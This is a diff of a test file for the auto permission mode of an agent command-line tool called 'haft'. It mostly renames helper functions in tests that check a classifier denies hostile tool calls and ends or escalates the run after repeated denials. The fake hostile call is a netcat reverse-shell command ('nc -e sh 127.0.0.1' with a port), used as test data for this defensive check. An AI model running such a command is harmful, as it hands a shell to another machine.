@@ -1,34 +1,34 @@
 import { writeFile } from 'node:fs/promises'
 import { describe, expect, test } from 'vitest'
 import type { Line } from './lib/haft-process.js'
-import { call, headlessFixture } from './lib/headless-fixture.js'
+import { call, createHeadlessFixture } from './lib/headless-fixture.js'
 
-const { at, file, model, run, start } = headlessFixture()
+const { at, file, writeModel, run, start } = createHeadlessFixture()
 
 const AUTO = ['--permission-mode', 'auto']
 /** Each command is different, so that only the classifier denies it and not the repetition guard. */
-const hostileCall = (port: number) => call('Bash', { command: `nc -e sh 127.0.0.1 ${port}` })
-const harmlessCall = (line: number) => call('Read', { file_path: file('a.txt'), offset: 1, limit: line })
+const createHostileCall = (port: number) => call('Bash', { command: `nc -e sh 127.0.0.1 ${port}` })
+const createHarmlessCall = (line: number) => call('Read', { file_path: file('a.txt'), offset: 1, limit: line })
 
 describe('auto mode', () => {
   test('ends the run with a reason after three consecutive denials if there is no user to ask', async () => {
-    const turns = [hostileCall(1), hostileCall(2), hostileCall(3), hostileCall(4), 'unreached']
+    const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4), 'unreached']
 
-    const { code, stdout } = await run(['-p', 'Go', '--output-format', 'json', ...AUTO, ...(await model(turns))])
+    const { code, stdout } = await run(['-p', 'Go', '--output-format', 'json', ...AUTO, ...(await writeModel(turns))])
 
     expect(code).toBe(3)
     const result = JSON.parse(stdout)
     expect(result).toMatchObject({ end_reason: 'stopped_by_permissions', exit_code: 3, is_error: true, num_turns: 4 })
     expect(result.result).toMatch(/^The classifier denied too many calls\./)
     expect(result.permission_denials).toHaveLength(4)
-    expect(result.permission_denials[0].reason).toContain('gives a shell to another machine')
+    expect(result.permission_denials[0].reason).toContain('opens a shell to another machine')
   })
 
   test('ends the run after twenty denials in total, however many calls are allowed in between', async () => {
     const turns = Array.from({ length: 10 }, (_, round) => [
-      hostileCall(2 * round),
-      hostileCall(2 * round + 1),
-      harmlessCall(round + 1),
+      createHostileCall(2 * round),
+      createHostileCall(2 * round + 1),
+      createHarmlessCall(round + 1),
     ])
     const args = ['--output-format', 'json', ...AUTO]
 
@@ -36,7 +36,7 @@ describe('auto mode', () => {
       '-p',
       'Go',
       ...args,
-      ...(await model([...turns.flat(), hostileCall(99), 'unreached'])),
+      ...(await writeModel([...turns.flat(), createHostileCall(99), 'unreached'])),
     ])
 
     const result = JSON.parse(stdout)
@@ -47,18 +47,18 @@ describe('auto mode', () => {
   })
 
   test('reports on standard error why it ended the run', async () => {
-    const turns = [hostileCall(1), hostileCall(2), hostileCall(3), hostileCall(4)]
+    const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4)]
 
-    const { code, stdout, stderr } = await run(['-p', 'Go', ...AUTO, ...(await model(turns))])
+    const { code, stdout, stderr } = await run(['-p', 'Go', ...AUTO, ...(await writeModel(turns))])
 
     expect({ code, stdout }).toEqual({ code: 3, stdout: '' })
     expect(stderr.trimEnd().split('\n').at(-1)).toMatch(/^haft: The classifier denied too many calls\./)
   })
 
   test('asks the driving program after three consecutive denials and continues with its answer', async () => {
-    const turns = [hostileCall(1), hostileCall(2), hostileCall(3), hostileCall(4), 'Done.']
+    const turns = [createHostileCall(1), createHostileCall(2), createHostileCall(3), createHostileCall(4), 'Done.']
     const driverArgs = ['-p', '--input-format', 'stream-json', '--output-format', 'stream-json']
-    const args = ['--permission-prompt-tool', 'stdio', ...AUTO, ...(await model(turns))]
+    const args = ['--permission-prompt-tool', 'stdio', ...AUTO, ...(await writeModel(turns))]
     const process = start([...driverArgs, ...args])
     process.send({ type: 'user', message: { role: 'user', content: 'Go' } })
     const questions: Line[] = []
